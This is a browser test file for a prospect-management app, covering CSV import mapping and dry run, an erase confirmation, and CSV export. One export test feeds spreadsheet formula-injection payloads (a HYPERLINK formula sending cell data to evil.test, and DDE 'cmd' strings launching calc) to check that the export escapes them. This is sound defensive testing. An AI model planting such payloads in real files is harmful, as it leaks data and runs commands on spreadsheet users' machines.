// Issue 15 in Chromium: the import page (paste, map the header row, dry-run report, run) and the
// erase confirmation on the prospect page, with screenshots in test-artifacts/screenshots/; and the
// prospects' Download CSV with formula-like names (issue 36 item 13) and a UTF-8 BOM (issue 71).
import fs from "node:fs";
import { afterAll, beforeAll, expect, it } from "vitest";
import { DEMO_CONTACTS } from "../../src/demo/seed-base.ts";
import { type BrowserHarness, callApi, startBrowserHarness } from "../support/browser.ts";
import { describeBrowser } from "../support/multi.ts";

const CSV = [
  "E-mail Address,Given,Family,Employer",
  "nora.quist@example.net,Nora,Quist,",
  '"Ola.Berg+events@GoogleMail.com",Ola,"Berg, Jr.",',
  "olaberg@gmail.com,Ola,Berg,",
  "not-an-address,Bad,Row,",
  "kim.lund@example.net,Kim,Lund,",
].join("\n");

describeBrowser("browser: prospect data (import mapping, dry run, erase confirmation)", () => {
  let h: BrowserHarness;
  beforeAll(async () => {
    h = await startBrowserHarness();
  }, 240_000);
  afterAll(async () => h?.close(), 60_000);

  it("maps the columns, shows the dry-run report, then imports", async () => {
    const page = h.page;
    await h.signInAs("revops");
    await page.getByRole("link", { name: "Import" }).click();
    await page.getByTestId("import-csv").fill(CSV);
    await page.getByRole("button", { name: "Read the header row" }).click();
    const mapping = page.getByTestId("import-mapping");
    await mapping.waitFor();
    await page.getByTestId("map-email").selectOption("E-mail Address");
    await page.getByTestId("map-first_name").selectOption("Given");
    await page.getByTestId("map-last_name").selectOption("Family");
    await page.getByLabel("Legal basis for rows without one").selectOption("legitimate_interest");
    await h.screenshot("import-mapping");

    await page.getByTestId("dry-run").click();
    const report = page.locator('[data-testid="import-report"][data-status="done"][data-dry-run="true"]');
    await report.waitFor();
    expect(await page.getByTestId("count-created").textContent()).toMatch(/^3 would be created/);
    expect(await page.getByTestId("count-skipped").textContent()).toMatch(/^1 /);
    expect(await page.getByTestId("count-refused").textContent()).toMatch(/^1 /);
    const rows = page.getByTestId("report-row");
    expect(await rows.count()).toBe(2);
    expect(await rows.nth(0).textContent()).toContain("duplicate in file");
    expect(await rows.nth(1).textContent()).toContain("bad email");
    await h.screenshot("import-dry-run");

    await page.getByTestId("run-import").click();
    await page.locator('[data-testid="import-report"][data-status="done"][data-dry-run="false"]').waitFor();
    expect(await page.getByTestId("count-created").textContent()).toMatch(/^3 created/);
    await h.screenshot("import-done");
  });

  it("erases a prospect after a typed confirmation with a request reference", async () => {
    const page = h.page;
    await h.signInAs("revops");
    const person = DEMO_CONTACTS[0];
    await page.goto(`/contacts/${person.contact_id}`);
    await page.getByRole("heading", { name: person.full_name }).waitFor();
    await page.getByTestId("erase-open").click();
    const confirm = page.getByTestId("erase-confirm");
    await confirm.waitFor();
    const button = page.getByTestId("erase-confirm-button");
    await page.getByLabel("Request reference").fill("DSR-2026-014");
    expect(await button.isDisabled()).toBe(true); // not until ERASE is typed
    await page.getByLabel("Type ERASE to confirm").fill("ERASE");
    await h.screenshot("erase-confirm");
    await button.click();
    await page.getByTestId("erased").waitFor();
    await page.getByRole("heading", { name: "[erased]" }).waitFor();
    await h.screenshot("erase-done");
    const log = await callApi(h, "bt_demo_revops", "GET", "/api/v1/erasures");
    expect(log.items[0]).toMatchObject({ contact_id: person.contact_id, request_reference: "DSR-2026-014" });
  });

  it("a rep sees no erase action", async () => {
    await h.signInAs("rep");
    await h.page.goto(`/contacts/${DEMO_CONTACTS[1].contact_id}`);
    await h.page.getByRole("heading", { name: DEMO_CONTACTS[1].full_name }).waitFor();
    expect(await h.page.getByTestId("erase-open").count()).toBe(0);
  });

  it("Download CSV exports formula-like names as text (issue 36 item 13)", async () => {
    const nasty = [
      '=HYPERLINK("http://evil.test/?d="&A1)',
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)",
      "=1+1",
    ];
    const csv = [
      "email,first,last",
      ...nasty.map((n, i) => `csvinj${i}@example.net,"${n.replaceAll('"', '""')}",X`),
    ];
    const r = await callApi(h, "bt_demo_revops", "POST", "/api/v1/imports", {
      csv: csv.join("\n"),
      mapping: { email: "email", first_name: "first", last_name: "last" },
      legal_basis: "legitimate_interest",
    });
    expect(r.counts.created).toBe(nasty.length);
    const page = h.page;
    await h.signInAs("revops");
    await page.goto("/contacts");
    await page.getByLabel("Name or email starts with").fill("csvinj");
    await page.getByRole("button", { name: "Search" }).click();
    await page.getByTestId("contacts").getByText("csvinj4@example.net").waitFor();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByTestId("csv-contacts").click(),
    ]);
    const lines = fs
      .readFileSync((await download.path())!, "utf8")
      .trimEnd()
      .split("\r\n")
      .slice(1);
    expect(lines).toHaveLength(nasty.length);
    // every name cell starts with a quote inside quotes: a spreadsheet shows it, never runs it
    for (const line of lines) expect(line.startsWith(`"'`)).toBe(true);
    expect(lines.some((l) => l.startsWith(`"'=HYPERLINK(""http://evil.test/?d=""&A1) X`))).toBe(true);
  });

  it("Download CSV starts with a UTF-8 BOM, and the downloaded file reads Müller again on import (issue 71)", async () => {
    const r = await callApi(h, "bt_demo_revops", "POST", "/api/v1/imports", {
      csv: "email,first,last\nbomcheck@example.net,Jörg,Müller\n",
      mapping: { email: "email", first_name: "first", last_name: "last" },
      legal_basis: "legitimate_interest",
    });
    expect(r.counts.created).toBe(1);
    const page = h.page;
    await h.signInAs("revops");
    await page.goto("/contacts");
    await page.getByLabel("Name or email starts with").fill("bomcheck");
    await page.getByRole("button", { name: "Search" }).click();
    await page.getByTestId("contacts").getByText("bomcheck@example.net").waitFor();
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByTestId("csv-contacts").click(),
    ]);
    const bytes = fs.readFileSync((await download.path())!);
    // EF BB BF: Excel reads the file as UTF-8 and shows Müller, not MÃ¼ller
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const preview = await callApi(h, "bt_demo_revops", "POST", "/api/v1/imports/preview", {
      csv: bytes.toString("utf8"), // the BOM kept, as a file read on the server keeps it
    });
    expect(preview.header[0]).toBe("Prospect");
    expect(preview.rows).toBe(1);
    expect(preview.sample[0][0]).toMatch(/^Jörg Müller/);
  });
});
